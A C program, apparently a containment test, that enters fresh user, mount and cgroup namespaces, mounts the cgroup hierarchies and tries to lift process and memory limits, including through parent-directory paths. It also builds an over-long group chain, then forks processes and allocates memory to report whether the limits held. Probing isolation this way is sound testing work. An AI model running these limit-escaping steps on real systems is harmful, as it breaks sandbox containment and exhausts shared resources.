/*
 * Root of a workspace against its limits: in a user, mount and cgroup namespace of its own it mounts the control groups, lifts every limit that it
 * reaches, makes groups, and then takes more processes and memory than the workspace was given.
 *
 *   groups NAME PROCESSES MIB
 *
 * prints what each mount shows (`shows HIERARCHY GROUP`), what was written (`lifted FILE`), how many processes could be made (`processes N`) and
 * how a process ended that took the memory (`memory kept` or `memory SIGNAL`), then `done`. NAME is the group it makes where a mount begins;
 * below that in v1 lies a chain that is longer than a path may be.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <err.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define MOUNT "/tmp/groups"

enum { CHAIN = 30, LINK_LENGTH = 200, MIB = 1 << 20 };

static int put(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    ssize_t written = write(fd, text, strlen(text));
    close(fd);
    return written < 0 ? -1 : 0;
}

static void own_namespaces(void)
{
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0)
        err(1, "unshare");
    if (put("/proc/self/setgroups", "deny") < 0 || put("/proc/self/uid_map", "0 0 1") < 0 || put("/proc/self/gid_map", "0 0 1") < 0)
        err(1, "user namespace");
}

static void show(const char *hierarchy)
{
    DIR *directory = opendir(MOUNT);
    if (!directory)
        err(1, MOUNT);
    for (struct dirent *entry; (entry = readdir(directory));)
        if (entry->d_type == DT_DIR && entry->d_name[0] != '.')
            printf("shows %s %s\n", hierarchy, entry->d_name);
    closedir(directory);
}

static void lift(const char *file, const char *unlimited)
{
    static const char *const ways[] = { MOUNT, MOUNT "/..", MOUNT "/../.." };
    for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
        char path[256];
        snprintf(path, sizeof path, "%s/%s", ways[i], file);
        if (put(path, unlimited) == 0)
            printf("lifted %s\n", path);
    }
}

/* Leaves the caller where it was. */
static void make_chain(const char *name)
{
    char link[LINK_LENGTH + 1];
    memset(link, 'g', LINK_LENGTH);
    link[LINK_LENGTH] = '\0';
    if (chdir(MOUNT) < 0 || mkdir(name, 0755) < 0 || chdir(name) < 0)
        err(1, "group %s", name);
    for (int i = 0; i < CHAIN; i++)
        if (mkdir(link, 0755) < 0 || chdir(link) < 0)
            err(1, "group %d below %s", i, name);
    if (chdir("/") < 0)
        err(1, "/");
}

static void attack(const char *hierarchy, const char *name, void (*make)(const char *))
{
    int v2 = strcmp(hierarchy, "v2") == 0;
    if (mount("groups", MOUNT, v2 ? "cgroup2" : "cgroup", 0, v2 ? NULL : hierarchy) < 0)
        return;
    printf("mounted %s\n", hierarchy);
    show(hierarchy);
    lift("pids.max", "max");
    lift("memory.limit_in_bytes", "-1");
    lift("memory.max", "max");
    make(name);
    if (umount2(MOUNT, MNT_DETACH) < 0)
        err(1, "umount");
}

static void make_one(const char *name)
{
    char path[256];
    snprintf(path, sizeof path, MOUNT "/%s", name);
    if (mkdir(path, 0755) < 0)
        err(1, "%s", path);
}

static void take_processes(int most)
{
    pid_t *children = calloc((size_t)most, sizeof *children);
    int made = 0;
    while (children && made < most) {
        pid_t child = fork();
        if (child < 0)
            break;
        if (child == 0)
            for (;;)
                pause();
        children[made++] = child;
    }
    printf("processes %d\n", made);
    for (int i = 0; i < made; i++) {
        kill(children[i], SIGKILL);
        waitpid(children[i], NULL, 0);
    }
    free(children);
}

static void take_memory(size_t mib)
{
    fflush(stdout);
    pid_t child = fork();
    if (child < 0)
        err(1, "fork");
    if (child == 0) {
        for (size_t i = 0; i < mib; i++) {
            char *memory = malloc(MIB);
            if (!memory)
                _exit(1);
            memset(memory, 1, MIB);
        }
        _exit(0);
    }
    int status = 0;
    waitpid(child, &status, 0);
    if (WIFSIGNALED(status))
        printf("memory %d\n", WTERMSIG(status));
    else
        printf("memory kept\n");
}

int main(int argc, char **argv)
{
    if (argc != 4)
        errx(2, "usage: groups NAME PROCESSES MIB");
    mkdir(MOUNT, 0755);
    own_namespaces();
    attack("pids", argv[1], make_chain);
    attack("memory", argv[1], make_one);
    attack("v2", argv[1], make_one);
    take_processes(atoi(argv[2]));
    take_memory((size_t)atoi(argv[3]));
    printf("done\n");
    return 0;
}
